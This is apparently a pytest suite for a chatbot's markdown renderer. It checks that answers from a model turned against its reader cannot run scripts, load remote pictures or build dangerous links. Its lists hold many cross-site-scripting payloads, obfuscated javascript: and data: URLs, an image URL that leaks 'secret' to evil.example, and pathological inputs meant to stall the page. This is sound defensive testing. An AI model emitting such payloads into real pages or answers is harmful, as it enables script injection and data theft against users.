"""Answers of a model that somebody has turned against its reader: nothing runs, nothing is fetched.

That nobody but the chatbot is asked, and that the page's policy is never even tried, the fixture
`visit` makes sure of.
"""

from __future__ import annotations

import time

import pytest
from chatbot.browsing import answers, say
from chatbot.upstream import Say
from playwright.sync_api import expect

SHOW = """async (text) => {
  const { show } = await import("./markdown.js");
  const node = document.createElement("div");
  document.body.append(node);
  for (let end = 1; end < text.length; end += 7) show(node, text.slice(0, end), { growing: true });
  show(node, text);
  return {
    text: node.innerText,
    names: [...new Set([...node.querySelectorAll("*")].map((each) => each.localName))].sort(),
    links: [...node.querySelectorAll("a")].map((each) => each.getAttribute("href")),
    attributes: [...new Set([...node.querySelectorAll("*")].flatMap((each) =>
      each.getAttributeNames()))].sort(),
  };
}"""


@pytest.fixture
def shown(visit):
    """Show an answer piece by piece and at last as a whole; return what became of it."""
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    return lambda text: page.evaluate(SHOW, text)


HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <img src='https://evil.example/a' onerror='alert(1)'> text",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/a';</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<link rel=prefetch href=https://evil.example/a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=secret></form>",
    "<!-- <img src=https://evil.example/a> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#x3e;",
    "```html\n<script>alert(1)</script>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
]
PLAIN = {"p", "blockquote", "ul", "li", "h2", "br", "a", "span", "strong", "em", "code", "pre"}
FRAMED = {"div", "button", "table", "thead", "tbody", "tr", "th", "td"}


def test_html_is_text(shown):
    for text in HTML:
        found = shown(text)
        assert set(found["names"]) <= PLAIN | FRAMED, text
        assert not {name for name in found["attributes"] if name.startswith("on") or name == "src"}
        assert all(link.startswith("https://evil.example") for link in found["links"]), text
        assert any(word in found["text"] for word in ("alert(1)", "evil.example", "<img")), text


SCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#10;script:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:https://evil.example",
    "ms-settings:privacy",
    "//evil.example/a",
    "/api/config",
    "?q=1",
    "#fragment",
    "",
    "https://bank.example@evil.example/",
    "https://:pw@evil.example/",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}>",
    "[![x](p)]({})",
    "![x]({})",
    "**[x]({})**",
]


def test_only_web_and_mail_addresses_become_links(shown):
    for target in SCRIPTS:
        for form in FORMS:
            assert shown(form.format(target))["links"] == [], (form, target)
        found = shown(f"<{target}> {target}")["links"]
        assert all(link.startswith(("http:", "https:", "mailto:")) for link in found), target


def test_links_lead_where_they_say(shown):
    for text, links in [
        ("[x](https://example.com/a?b=1&amp;c=2)", ["https://example.com/a?b=1&c=2"]),
        ("[x](HTTP://EXAMPLE.com)", ["http://example.com/"]),
        ("[x](mailto:ada@example.com)", ["mailto:ada@example.com"]),
        ("<https://example.com/a>", ["https://example.com/a"]),
        ("see https://example.com/a, or www.example.com.", ["https://example.com/a", "http://www.example.com/"]),
        ("write to ada@example.com", ["mailto:ada@example.com"]),
        ("[x][R] and [r]\n\n[r]: https://example.com 'title'", ["https://example.com/"] * 2),
        ('[x](https://example.com/"onclick="alert(1))', ["https://example.com/%22onclick=%22alert(1)"]),
        ("[a [b](https://b.example) c](../d)", ["https://b.example/"]),
        ("`https://example.com` and \\[x](y)", []),
    ]:  # fmt: skip
        assert shown(text)["links"] == links, text


def test_a_link_opens_elsewhere_and_tells_nobody_where_from(shown):
    assert set(shown("[x](https://example.com)")["attributes"]) == {
        "href",
        "rel",
        "target",
        "title",
    }


def test_a_picture_stays_where_it_is(shown):
    for text, says, links in [
        ("![a cat](https://evil.example/c.png?d=secret)", "Picture not loaded: a cat · evil.example", ["https://evil.example/c.png?d=secret"]),
        ("![](https://evil.example/)", "Picture not loaded · evil.example", ["https://evil.example/"]),
        ("![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)", "Picture not loaded: dot", []),
        ("![x][r]\n\n[r]: https://evil.example/r", "Picture not loaded: x · evil.example", ["https://evil.example/r"]),
        ("[![x](https://evil.example/p)](https://example.com/)", "Picture not loaded: x", ["https://example.com/"]),
        ("![x](//evil.example/p)", "Picture not loaded: x", []),
        ("![x](/icon.svg)", "Picture not loaded: x", []),
    ]:  # fmt: skip
        found = shown(text)
        assert found["text"].strip() == says
        assert found["links"] == links
        assert "img" not in found["names"]


def test_a_whole_hostile_answer_in_a_conversation(visit, upstream):
    upstream.answers = [Say(tuple("\n\n".join([*HTML, *(f"[x]({each})" for each in SCRIPTS)])))]
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    say(page, "Attack")
    expect(page.get_by_role("button", name="Copy answer")).to_be_visible(timeout=60_000)
    found = answers(page).locator("img, script, iframe, svg, style, link, meta, form, input, math")
    expect(found).to_have_count(0)
    page.reload()
    expect(answers(page)).to_contain_text("alert(1)")
    expect(found).to_have_count(0)


LENGTH = """async (text) => {
  const { show } = await import("./markdown.js");
  const node = document.createElement("div");
  document.querySelector("main").append(node);
  show(node, text);
  const { length } = node.textContent;
  node.remove();
  return length;
}"""
ENDLESS = {
    "brackets": "[" * 10_000,
    "pictures": "![" * 10_000,
    "links": "[a](b" * 10_000,
    "stars": "**a *b _c ~~d `e [f](g ![h " * 2000,
    "quotes": ">" * 50_000,
    "quotes of quotes": "\n".join("> " * (300 - at) + "a" for at in range(300)),
    "lists": "\n".join(" " * 2 * at + "- x" for at in range(1000)),
    "lists on a line": "- " * 50_000 + "x",
    "heads": "a|b\n-|-|-\n" * 10_000,
    "cells": "|a" * 5000 + "\n" + "|-" * 5000 + "\n" + "|b" * 5000,
    "rows": "| a | b |\n|---|---|\n" + "| x | y |\n" * 5000,
    "dots": "http://a" + "." * 100_000,
    "references": "[a]: b\n" * 10_000 + "[a]" * 10_000,
    "fences": "```\n" * 20_000,
    "formulas": "$a " * 20_000 + "\\[" * 20_000,
    "a megabyte": "Some *words* of `prose`, and more of them.\n\n" * 23_000,
}


def test_no_answer_holds_the_page_up(visit):
    page = visit()
    for kind, text in ENDLESS.items():
        began = time.monotonic()
        assert page.evaluate(LENGTH, text) > len(text) / 10 or kind in {"heads", "references"}, kind
        assert time.monotonic() - began < 30, kind
